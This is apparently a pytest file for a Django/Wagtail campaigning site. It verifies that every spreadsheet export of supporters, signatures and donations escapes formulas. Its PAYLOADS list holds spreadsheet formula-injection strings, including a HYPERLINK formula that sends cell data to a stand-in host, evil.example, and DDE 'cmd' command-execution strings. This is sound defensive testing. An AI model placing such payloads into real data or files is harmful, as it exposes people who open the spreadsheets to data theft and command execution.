"""No spreadsheet the site hands out carries a formula.

Every text field of a supporter, a signature and a gift (and the petition's
title, the site's name, a tag) holds a formula payload. The test then finds the
exports by itself: it opens every page of the project's own views and of
Wagtail's views that can export (SpreadsheetExportMixin: reports, list
exports), asks those for ``?export=`` in each format, and follows every link
on those pages that leads to an export. Every CSV, TSV or XLSX file that comes
back is read cell by cell: no text cell may start with ``= + - @``, a tab or a
carriage return, and no XLSX cell may be a formula. A new export is checked
as soon as a page links to it.
"""

import csv
import html
import io
import re
from urllib.parse import urljoin, urlsplit

import openpyxl
import pytest
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, resolve
from django.urls.exceptions import Resolver404
from django.utils import timezone
from rostra.spreadsheets import FORMULA_STARTS, neutralise
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?d="&A2,"Voir")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",
)


def poison(instance, *, skip=()):
    """Every editable text field without choices gets a payload (cut to fit)."""
    text_fields = [
        field
        for field in instance._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and field.editable
        and not field.choices
        and field.name not in skip
    ]
    for index, field in enumerate(text_fields):
        payload = PAYLOADS[index % len(PAYLOADS)]
        setattr(instance, field.attname, payload[: field.max_length or None])
    return instance


@pytest.fixture
def world(national_site, admin_user, settings):
    from rostra.mail.models import OutboxMessage
    from rostra.people.models import ImportJob, Person
    from rostra_donations.models import Donation, DonationStatus
    from rostra_network.models import ProvisioningBatch
    from rostra_petitions.models import PaperBatch, PetitionPage, Signature

    national_site.site_name = PAYLOADS[0]
    national_site.save()
    # The outbox (and its export) exists where mail is kept in it.
    settings.MAILERS = {"default": {"BACKEND": "rostra.mail.backends.OutboxBackend"}}
    outbox = poison(OutboxMessage())
    outbox.save()
    person = poison(Person(email_canonical="victim@example.org"))
    person.save()
    person.tags.add(PAYLOADS[2])
    log(person, "people.view", user=admin_user)  # the site history names them
    petition = national_site.root_page.add_child(
        instance=PetitionPage(title=PAYLOADS[0], slug="petition", intro="x", target="x", goal=10)
    )
    petition.save_revision().publish()
    signature = poison(Signature(petition=petition, person=person), skip=("token",))
    signature.state = Signature.State.VALIDATED
    signature.validated_at = timezone.now()
    signature.save()
    # Organising: a polling station uploaded by CSV and the assessor recruited
    # there (the prefecture's list is exported).
    from rostra_organising.volunteering.models import Recruit, UploadedPollingStation

    poison(
        UploadedPollingStation(code="69383_0001", commune_code="69383", number="0001"),
        skip=("code", "commune_code", "number"),
    ).save()
    poison(
        Recruit(
            site=national_site,
            station_code="69383_0001",
            commune_code="69383",
            role="assessor",
            position="titulaire",
            person=person,
        ),
        skip=("station_code", "commune_code"),
    ).save()
    donation = poison(Donation(site=national_site, person=person, amount=5000))
    donation.status, donation.paid_at = DonationStatus.PAID, timezone.now()
    donation.save()
    return {
        "person": person,
        "petition": PetitionPage.objects.get(pk=petition.pk),
        "signature": signature,
        "donation": donation,
        "import_job": ImportJob.objects.create(filename="people.csv", created_by=admin_user),
        "batch": ProvisioningBatch.objects.create(
            filename="sites.csv", content="x", created_by=admin_user
        ),
        "paper_batch": PaperBatch.objects.create(
            petition=petition, file_name="paper.csv", imported_by=admin_user
        ),
        "site": national_site,
        "outbox": outbox,
    }


def _patterns():
    """(route, url name, view class or function) of every named URL."""

    def walk(patterns, prefix, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = namespace
                if pattern.namespace:
                    inner = f"{namespace}:{pattern.namespace}" if namespace else pattern.namespace
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
            elif isinstance(pattern, URLPattern) and pattern.name:
                name = f"{namespace}:{pattern.name}" if namespace else pattern.name
                yield prefix + str(pattern.pattern), name, pattern.callback

    return list(walk(get_resolver().url_patterns, "", None))


def _view(callback):
    return getattr(callback, "view_class", callback)


def _owned(callback):
    return _view(callback).__module__.startswith(("rostra.", "rostra_"))


def _lists_exports(callback):
    """A Wagtail view that writes spreadsheets (a report, or a viewset given
    ``list_export``)."""
    view = _view(callback)
    if not (isinstance(view, type) and issubclass(view, SpreadsheetExportMixin)):
        return False
    initkwargs = getattr(callback, "view_initkwargs", {}) or {}
    return bool(initkwargs.get("list_export", view.list_export))


_PARAM = re.compile(r"<(?:\w+:)?(\w+)>")


def _fill(route, name, world):
    """The route's path with each parameter naming a seeded object."""
    namespace = name.split(":")[0]
    by_namespace = {
        "people_import_job": world["import_job"].pk,
        "donations_admin": world["donation"].pk,
        "network_admin": world["batch"].pk,
        "petitions_signatures": world["signature"].pk,
        "outbox": world["outbox"].pk,
        "outbox_attachment": world["outbox"].pk,
    }
    by_name = {
        "petition_id": world["petition"].pk,
        "batch_id": world["paper_batch"].pk,
        "signature_id": world["signature"].pk,
        "site_id": world["site"].pk,
        "action": "pause-signing",
        "token": "x",
        "session_id": "x",
        "kind": "csv",
        "index": 0,  # an outbox message's first attachment
        "rsvp_id": 0,  # organising: no RSVP is seeded (its pages answer 404)
        "event_id": 0,
        "volunteer_id": 0,  # organising: a volunteer's link (none is seeded)
        "membership_id": 0,  # organising: no group member is seeded
        "proposal_id": 0,  # nor a proposed event
        "name": "petitions",  # an API resource (plugin api)
        "code": "99999_0001",  # targeting: a polling station (none is seeded)
        "commune_code": "69383",  # organising: the commune of the seeded polling station
        "fmt": "csv",
        "provider": "local",  # mailings: the SMS provider whose webhook is called
    }

    def value(match):
        param = match.group(1)
        if param == "pk":
            return str(by_namespace.get(namespace, world["person"].pk))
        return str(by_name[param])

    return "/" + _PARAM.sub(value, route)


def _spreadsheet(response):
    """('csv' | 'tsv' | 'xlsx', content) of a file response, else None."""
    kind = response.get("Content-Type", "").split(";")[0]
    disposition = response.get("Content-Disposition", "")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if "spreadsheetml" in kind or disposition.rstrip('"').endswith(".xlsx"):
        return "xlsx", content
    if kind == "text/tab-separated-values" or disposition.rstrip('"').endswith(".tsv"):
        return "tsv", content
    if kind == "text/csv" or disposition.rstrip('"').endswith(".csv"):
        return "csv", content
    return None


def _cells(fmt, content):
    """(text of a cell, is a formula) for every cell of the file."""
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    yield cell.value, cell.data_type == "f"
        return
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    reader = csv.reader(io.StringIO(text, newline=""), delimiter="\t" if fmt == "tsv" else ",")
    for row in reader:
        for value in row:
            yield value, False


_HREF = re.compile(r'href="([^"]+)"')


def _export_links(page_path, text):
    """Links of a page that lead to an export of this site."""
    for href in _HREF.findall(text):
        url = urljoin(page_path, html.unescape(href))
        parts = urlsplit(url)
        if parts.netloc or "export" not in url.lower():
            continue
        try:
            resolve(parts.path)
        except Resolver404:
            continue
        yield parts.path + (f"?{parts.query}" if parts.query else "")


def test_no_export_carries_a_formula(world, admin_user, client):
    client.force_login(admin_user)
    client.raise_request_exception = False
    to_visit = []
    for route, name, callback in _patterns():
        if not (_owned(callback) or _lists_exports(callback)):
            continue
        path = _fill(route, name, world)
        to_visit.append((name, path))
        if _lists_exports(callback):
            for fmt in SpreadsheetExportMixin.FORMATS:
                to_visit.append((name, f"{path}?export={fmt}"))
    seen, found, problems = set(), {}, []
    while to_visit:
        name, path = to_visit.pop()
        if path in seen:
            continue
        seen.add(path)
        response = client.get(path)
        if response.status_code >= 500:
            problems.append(f"GET {path} fails ({response.status_code})")
            continue
        sheet = _spreadsheet(response)
        if sheet is None:
            if response.get("Content-Type", "").startswith("text/html"):
                page = response.content.decode("utf-8", "replace")
                to_visit.extend(
                    (resolve(urlsplit(link).path).view_name, link)
                    for link in _export_links(path, page)
                )
            continue
        fmt, content = sheet
        cells = list(_cells(fmt, content))
        found[path] = (name, fmt, cells)
        for value, is_formula in cells:
            if is_formula or (isinstance(value, str) and value.startswith(FORMULA_STARTS)):
                problems.append(f"{path} ({fmt}): cell {value!r} would run as a formula")
    assert problems == [], "\n".join(problems)

    # The walk reached the exports the admin offers, and the payloads were in them
    # (written readable, behind an apostrophe).
    expected = {
        ("people_export_list", "csv"),
        ("people_export_list", "xlsx"),
        ("petitions_signatures:index", "csv"),
        ("petitions_signatures:index", "xlsx"),
        ("donations_admin:ledger", "csv"),
        ("donations_admin:ledger", "xlsx"),
        ("donations_admin:ledger", "tsv"),
        ("wagtailadmin_reports:site_history", "csv"),
        ("wagtailadmin_reports:site_history", "xlsx"),
        ("outbox:index", "csv"),
        ("outbox:index", "xlsx"),
    }
    assert expected <= {(name, fmt) for name, fmt, _cells in found.values()}
    for path, (name, fmt, cells) in found.items():
        if (name, fmt) in expected:
            values = {value for value, _formula in cells}
            assert any(
                isinstance(value, str) and value.startswith("'=HYPERLINK") for value in values
            ), f"{path} ({fmt}) holds none of the payloads: the check proved nothing"


def test_neutralise_keeps_values_readable_and_numbers_numbers():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+33612345678") == "'+33612345678"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("Jean-Pierre") == "Jean-Pierre"
    assert neutralise("") == ""
    assert neutralise(-12) == -12
    from decimal import Decimal

    assert neutralise(Decimal("-12.50")) == Decimal("-12.50")


def test_a_negative_amount_stays_a_number_in_xlsx():
    from decimal import Decimal

    from rostra import spreadsheets

    content = spreadsheets.write(["amount", "name"], [[Decimal("-12.50"), "-12.50"]], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    number, text = (cell for cell in next(sheet.iter_rows(min_row=2)))
    assert (number.value, number.data_type) == (-12.5, "n")
    assert (text.value, text.data_type) == ("'-12.50", "s")
    csv_text = spreadsheets.write(["amount"], [[Decimal("-12.50")]], "csv")
    assert csv_text == "amount\r\n-12.50\r\n"


# Code that writes a spreadsheet without rostra.spreadsheets; each allowed one
# with its reason.
_WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\(|Workbook\(|\.export\(\s*[\"'](csv|tsv|xlsx|xls|ods)|"
    r"export_data\(\s*dataset|xlsxwriter"
)
_ALLOWED_WRITERS = {
    "site/rostra/spreadsheets.py": "the one writer",
    "site/rostra/people/sample_data.py": "writes demo files to import, from generated names",
    "plugins/targeting/rostra_targeting/official_files.py": (
        "writes results files in the Ministry's layouts to import (tests, demo, bench)"
    ),
}


def test_every_spreadsheet_is_written_by_the_one_writer():
    """Files written outside a view (commands, tasks) are not reached by the
    walk above: none may write CSV or XLSX but through rostra.spreadsheets."""
    from pathlib import Path

    repo = Path(__file__).resolve().parent.parent
    offenders = []
    for folder in ("site", "plugins", "themes"):
        for path in (repo / folder).rglob("*.py"):
            relative = path.relative_to(repo).as_posix()
            if "/tests/" in relative or "/migrations/" in relative:
                continue
            if relative in _ALLOWED_WRITERS:
                continue
            if _WRITERS.search(path.read_text(encoding="utf-8")):
                offenders.append(relative)
    assert offenders == [], "write these files with rostra.spreadsheets"
